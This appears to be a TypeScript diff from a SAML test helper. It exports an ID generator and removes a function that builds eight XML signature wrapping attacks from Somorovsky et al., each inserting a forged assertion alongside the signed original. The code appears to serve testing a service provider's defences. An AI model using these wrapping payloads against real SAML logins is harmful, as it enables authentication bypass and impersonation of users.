@@ -191,7 +191,7 @@ function makeKey(now: number, days: number) {
   };
 }
 
-const newId = () => `_${randomBytes(12).toString('hex')}`;
+export const newId = () => `_${randomBytes(12).toString('hex')}`;
 
 interface About {
   issuer: string;
@@ -237,36 +237,3 @@ function responseOf(
     `${assertion}</samlp:Response>`
   );
 }
-
-const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s;
-const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s;
-
-/** Signature wrapping: the eight places of Somorovsky et al., “On Breaking SAML” (2012), for the evil copy and the signed original. */
-export function wrap(kind: number, evil: (assertion: string) => string): (xml: string) => string {
-  return (xml) => {
-    const [assertion = ''] = ASSERTION.exec(xml) ?? [];
-    const [signature = ''] = SIGNATURE.exec(kind <= 2 ? xml : assertion) ?? [];
-    const original = (kind <= 2 ? xml : assertion).replace(SIGNATURE, '');
-    const copy = evil(assertion.replace(SIGNATURE, '')).replace(/ ID="[^"]*"/, ` ID="${newId()}"`);
-    const signedCopy = (inside: string) => copy.replace('</saml:Issuer>', `</saml:Issuer>${inside}`);
-    const signatureWith = (inside: string) =>
-      signature.replace('</ds:Signature>', `${inside}</ds:Signature>`);
-    const put = (inside: string) => xml.replace(assertion, inside);
-    const putOuter = (before: string) =>
-      xml
-        .replace(SIGNATURE, '')
-        .replace(/ ID="[^"]*"/, ` ID="${newId()}"`)
-        .replace(ASSERTION, copy)
-        .replace('</saml:Issuer>', `</saml:Issuer>${before}`);
-    if (kind === 1) return putOuter(signatureWith(original));
-    if (kind === 2) return putOuter(original + signature);
-    if (kind === 3) return put(copy + assertion);
-    if (kind === 4) return put(copy.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`));
-    if (kind === 5) return put(signedCopy(signature) + original);
-    if (kind === 6) return put(signedCopy(signatureWith(original)));
-    if (kind === 7) return put(`<samlp:Extensions>${copy}</samlp:Extensions>${assertion}`);
-    return put(signedCopy(signatureWith(`<ds:Object>${original}</ds:Object>`)));
-  };
-}
-
-export type SamlProvider = Awaited<ReturnType<typeof openSamlProvider>>;
